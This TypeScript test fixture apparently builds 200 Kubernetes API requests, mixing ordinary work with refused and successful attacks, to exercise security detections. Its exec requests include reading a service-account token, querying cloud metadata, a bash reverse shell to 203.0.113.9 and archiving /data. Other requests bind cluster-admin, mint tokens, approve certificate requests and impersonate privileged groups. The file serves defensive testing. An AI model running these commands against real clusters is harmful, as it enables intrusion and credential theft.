/**
 * 200 requests of every kind that detections look at, as callers of every kind make them: ordinary work, refused
 * attempts, and attacks that succeed.
 */

/** Whose credentials a request carries. */
export type Caller = 'root' | 'alice' | 'node' | 'cart' | 'operator' | 'nobody' | 'guesser';

export interface Asked {
  readonly as: Caller;
  readonly method: string;
  readonly path: string;
  readonly body?: unknown;
  readonly contentType?: string;
  readonly agent?: string;
  readonly headers?: Readonly<Record<string, string>>;
}

type Rest = Omit<Asked, 'as' | 'method' | 'path'>;

const RBAC = '/apis/rbac.authorization.k8s.io/v1';
const APPS = '/apis/apps/v1/namespaces';
const CERTIFICATES = '/apis/certificates.k8s.io/v1/certificatesigningrequests';
const REVIEWS = '/apis/authorization.k8s.io/v1';
const CORE = '/api/v1/namespaces';
const AGENTS: Partial<Record<Caller, string>> = {
  operator: 'operator/v1.2.3 (linux/amd64) kubernetes/abc',
  cart: 'curl/8.7.1',
  node: 'kubelet/v1.36.3 (linux/amd64) kubernetes/abc',
  nobody: 'zgrab/0.x',
};
const MERGE = { contentType: 'application/merge-patch+json' };
const UPGRADE = { headers: { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-version': '13' } };

/** @param csr a PKCS#10 request, PEM in base64 */
export function twoHundredRequests(csr: string): readonly Asked[] {
  const all = [
    ...ordinaryWork(),
    ...workOfPeople(),
    ...pods(),
    ...connections(),
    ...rbac(),
    ...credentials(csr),
    ...clusterSettings(),
    ...secrets(),
    ...identities(),
    ...strangers(),
  ];
  return [...all, ...times(200 - all.length, (at) => get('alice', `${CORE}/shop/configmaps/none-${at}`))];
}

function ask(as: Caller, method: string, path: string, rest: Rest = {}): Asked {
  const agent = rest.agent ?? AGENTS[as];
  return { as, method, path, ...rest, ...(agent === undefined ? {} : { agent }) };
}

function get(as: Caller, path: string, rest: Rest = {}): Asked {
  return ask(as, 'GET', path, rest);
}

function post(as: Caller, path: string, body: unknown, rest: Rest = {}): Asked {
  return ask(as, 'POST', path, { body, ...rest });
}

function times(count: number, make: (at: number) => Asked): Asked[] {
  return Array.from({ length: count }, (_, at) => make(at));
}

function podSpec(container: Record<string, unknown> = {}, rest: Record<string, unknown> = {}): Record<string, unknown> {
  return { containers: [{ name: 'c', image: 'registry.example/c:1', ...container }], ...rest };
}

function deployment(name: string, spec = podSpec()): Record<string, unknown> {
  const template = { metadata: { labels: { app: name } }, spec };
  return { metadata: { name }, spec: { selector: { matchLabels: { app: name } }, template } };
}

/** An operator with a cache, and the health checks of a load balancer. */
function ordinaryWork(): Asked[] {
  return Array.from({ length: 8 }, (_, at) => [
    get('operator', '/api/v1/secrets?limit=500&resourceVersion=0'),
    post('operator', `${APPS}/shop/deployments`, deployment(`web-${at}`)),
    get('operator', `${APPS}/shop/deployments/web-${at}`),
    get('nobody', at % 2 === 0 ? '/readyz' : '/version'),
  ]).flat();
}

function workOfPeople(): Asked[] {
  const mine = `${CORE}/shop/configmaps`;
  return [
    get('alice', `${CORE}/shop/pods?limit=500`),
    get('alice', `${CORE}/shop/pods?watch=true&timeoutSeconds=1`),
    post('alice', mine, { metadata: { name: 'colours' }, data: { sky: 'blue' } }),
    post('alice', mine, { metadata: { name: 'colours' } }),
    post('alice', mine, { metadata: { name: 'database' }, data: { DB_PASSWORD: 'correct-horse-9' } }),
    ask('alice', 'PATCH', `${mine}/colours`, { body: { data: { sky: 'grey' } }, ...MERGE }),
    ask('alice', 'DELETE', `${mine}/colours`),
    ask('alice', 'PATCH', `${APPS}/shop/deployments/web-0`, {
      body: [{ op: 'add', path: '/spec/template/spec/containers/-', value: { name: 'side', image: 'x' } }],
      contentType: 'application/json-patch+json',
    }),
    ask('alice', 'PATCH', `${APPS}/shop/deployments/web-1?fieldManager=alice`, {
      body: { apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'web-1' }, spec: { replicas: 0 } },
      contentType: 'application/apply-patch+yaml',
    }),
    ask('alice', 'DELETE', `${APPS}/shop/deployments/web-2`),
    get('alice', `${CORE}/kube-system/secrets`),
    get('alice', '/api/v1/nodes'),
    get('alice', '/metrics'),
    post('alice', `${REVIEWS}/selfsubjectaccessreviews`, review({ resourceAttributes: { verb: 'get' } })),
  ];
}

function review(spec: Record<string, unknown>, kind = 'SelfSubjectAccessReview'): Record<string, unknown> {
  return { apiVersion: 'authorization.k8s.io/v1', kind, spec };
}

function pods(): Asked[] {
  const pod = (name: string, spec: Record<string, unknown>): unknown => ({ metadata: { name }, spec });
  const hostPath = { volumes: [{ name: 'h', hostPath: { path: '/etc/kubernetes' } }] };
  const privileged = podSpec({ securityContext: { privileged: true } });
  return [
    post('cart', `${CORE}/shop/pods`, { metadata: { generateName: 'privileged-' }, spec: privileged }),
    post('alice', `${CORE}/shop/pods`, pod('plain', podSpec())),
    post('alice', `${CORE}/shop/pods`, pod('mounts', podSpec({}, hostPath))),
    post('alice', `${CORE}/shop/pods`, pod('host', podSpec({}, { hostPID: true, hostNetwork: true }))),
    post(
      'cart',
      `${CORE}/shop/pods`,
      pod('capable', podSpec({ securityContext: { capabilities: { add: ['SYS_ADMIN'] } } })),
    ),
    post('root', `${CORE}/kube-system/pods`, pod('hidden', podSpec({}, { serviceAccountName: 'job-controller' }))),
    post('cart', `${APPS}/shop/daemonsets`, deployment('everywhere', privileged)),
    post('cart', '/apis/batch/v1/namespaces/shop/cronjobs', {
      metadata: { name: 'again' },
      spec: {
        schedule: '* * * * *',
        jobTemplate: { spec: { template: { spec: podSpec({}, { restartPolicy: 'Never' }) } } },
      },
    }),
    ask('cart', 'PATCH', `${CORE}/shop/pods/plain/ephemeralcontainers`, {
      body: { spec: { ephemeralContainers: [{ name: 'debug', image: 'x' }] } },
      contentType: 'application/strategic-merge-patch+json',
    }),
    post('alice', `${CORE}/shop/pods`, { metadata: { name: 'Not A Name' }, spec: podSpec() }),
  ];
}

/** Into pods that no node runs, and through nodes that are not there. */
function connections(): Asked[] {
  const exec = (...command: string[]): string =>
    `${CORE}/shop/pods/plain/exec?stdout=true${command.map((word) => `&command=${encodeURIComponent(word)}`).join('')}`;
  return [
    get('alice', exec('ls'), UPGRADE),
    get('cart', exec('cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'), UPGRADE),
    get('cart', exec('sh', '-c', 'curl http://169.254.169.254/latest/meta-data'), UPGRADE),
    get('cart', exec('bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'), UPGRADE),
    get('alice', exec('tar', 'cf', '-', '/data'), UPGRADE),
    get('node', exec('ls'), UPGRADE),
    get('cart', `${CORE}/shop/pods/plain/attach?stdin=true`, UPGRADE),
    get('alice', `${CORE}/shop/pods/plain/portforward?ports=5432`, UPGRADE),
    get('alice', `${CORE}/shop/pods/plain/log`),
    get('cart', `${CORE}/shop/pods/plain/proxy/admin`),
    post('cart', '/api/v1/nodes/n1/proxy/run/shop/plain/c', undefined),
    get('cart', '/api/v1/nodes/n1/proxy/pods'),
    get('operator', '/api/v1/nodes/n1/proxy/metrics'),
  ];
}

function rbac(): Asked[] {
  const role = (name: string, ...rules: Record<string, readonly string[]>[]): unknown => ({
    metadata: { name },
    rules,
  });
  const binding = (name: string, roleName: string): unknown => ({
    metadata: { name },
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: roleName },
    subjects: [{ kind: 'ServiceAccount', namespace: 'shop', name: 'friend' }],
  });
  const all = { apiGroups: ['*'], resources: ['*'], verbs: ['*'] };
  const tokens = { apiGroups: [''], resources: ['serviceaccounts/token'], verbs: ['create'] };
  return [
    post('cart', `${RBAC}/clusterroles`, role('everything', all)),
    post('root', `${RBAC}/namespaces/shop/roles`, role('minter', tokens)),
    post('alice', `${RBAC}/namespaces/shop/roles`, role('refused', all)),
    post(
      'root',
      `${RBAC}/clusterroles`,
      role('secrets', { apiGroups: [''], resources: ['secrets'], verbs: ['get', 'list'] }),
    ),
    post('cart', `${RBAC}/clusterrolebindings`, binding('mine', 'cluster-admin')),
    post('root', `${RBAC}/clusterrolebindings`, binding('delegator', 'system:auth-delegator')),
    post('cart', `${RBAC}/namespaces/ops/rolebindings`, binding('ours', 'admin')),
    post('operator', `${RBAC}/namespaces/ops/rolebindings`, binding('view', 'view')),
    ask('cart', 'PATCH', `${RBAC}/clusterroles/system:discovery`, {
      body: { metadata: { labels: { a: 'b' } } },
      ...MERGE,
    }),
    ask('root', 'DELETE', `${RBAC}/clusterrolebindings/delegator`),
    ask('root', 'DELETE', `${RBAC}/namespaces/ops/rolebindings`),
    post('cart', `${CORE}/shop/pods`, { metadata: { name: 'after' }, spec: podSpec() }),
  ];
}

function credentials(csr: string): Asked[] {
  const token = { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} };
  const request = (name: string, signerName: string): unknown => ({
    metadata: { name },
    spec: { request: csr, signerName, usages: ['client auth'] },
  });
  return [
    post('cart', `${CORE}/ops/serviceaccounts/operator/token`, token),
    post('alice', `${CORE}/shop/serviceaccounts/cart/token`, token),
    post('node', `${CORE}/shop/serviceaccounts/cart/token`, token),
    post('cart', `${CORE}/kube-system/serviceaccounts`, { metadata: { name: 'helper' } }),
    post('alice', `${CORE}/shop/serviceaccounts`, { metadata: { name: 'helper' } }),
    post('cart', CERTIFICATES, request('refused', 'kubernetes.io/kube-apiserver-client')),
    post('cart', CERTIFICATES, request('other', 'example.org/any')),
    ask('cart', 'PATCH', `${CERTIFICATES}/other/approval`, {
      body: {
        status: {
          conditions: [{ type: 'Approved', status: 'True', reason: 'r', lastUpdateTime: '2026-11-23T10:00:00Z' }],
        },
      },
      ...MERGE,
    }),
  ];
}

function clusterSettings(): Asked[] {
  const hooks = '/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations';
  const port = { ports: [{ port: 80 }] };
  return [
    post('root', hooks, { metadata: { name: 'guard' }, webhooks: [] }),
    ask('cart', 'DELETE', `${hooks}/guard`),
    ask('cart', 'DELETE', `${hooks}/none`),
    post('root', `${CORE}/kube-system/configmaps`, { metadata: { name: 'coredns' }, data: { Corefile: '.:53 {}' } }),
    post('cart', `${CORE}/kube-system/configmaps`, { metadata: { name: 'aws-auth' }, data: { mapUsers: '[]' } }),
    ask('cart', 'DELETE', `${CORE}/shop/events`),
    post('cart', `${CORE}/shop/services`, { metadata: { name: 'door' }, spec: { type: 'NodePort', ...port } }),
    post('alice', `${CORE}/shop/services`, { metadata: { name: 'inside' }, spec: port }),
    post('alice', '/apis/networking.k8s.io/v1/namespaces/shop/ingresses', {
      metadata: { name: 'front' },
      spec: { defaultBackend: { service: { name: 'inside', port: { number: 80 } } } },
    }),
    ask('root', 'DELETE', `${APPS}/shop/daemonsets/everywhere`),
  ];
}

function secrets(): Asked[] {
  return [
    ...times(6, (at) =>
      post('root', `${CORE}/shop/secrets`, { metadata: { name: `s${at}` }, stringData: { password: `p-${at}` } }),
    ),
    ...times(6, (at) => get('alice', `${CORE}/shop/secrets/s${at}`)),
    get('cart', '/api/v1/secrets?limit=500'),
    get('root', `${CORE}/kube-system/secrets`),
    get('node', `${CORE}/shop/secrets/s0`),
    get('alice', `${CORE}/ops/secrets/none`),
  ];
}

function identities(): Asked[] {
  const reviews = `${REVIEWS}/selfsubjectrulesreviews`;
  return [
    post('cart', reviews, review({ namespace: 'shop' }, 'SelfSubjectRulesReview')),
    get('root', '/api/v1/pods', { headers: { 'impersonate-user': 'system:kube-controller-manager' } }),
    get('root', '/api/v1/pods', { headers: { 'impersonate-user': 'x', 'impersonate-group': 'system:masters' } }),
    get('alice', `${CORE}/shop/pods`, { headers: { 'impersonate-user': 'root' } }),
    ...times(12, (at) =>
      get('alice', `${CORE}/kube-system/${['pods', 'secrets', 'services', 'events'][at % 4]}/x${at}`),
    ),
    ...['roles', 'rolebindings'].map((kind) => get('cart', `${RBAC}/${kind}`)),
    ...['pods', 'services', 'endpoints', 'configmaps', 'serviceaccounts', 'events', 'nodes', 'namespaces'].map((kind) =>
      get('cart', `/api/v1/${kind}`),
    ),
  ];
}

function strangers(): Asked[] {
  return [
    get('nobody', '/api'),
    get('nobody', '/'),
    ...times(12, (at) => get('nobody', `${CORE}/n${at}/pods`)),
    ...times(12, () => get('guesser', '/api/v1/pods')),
  ];
}
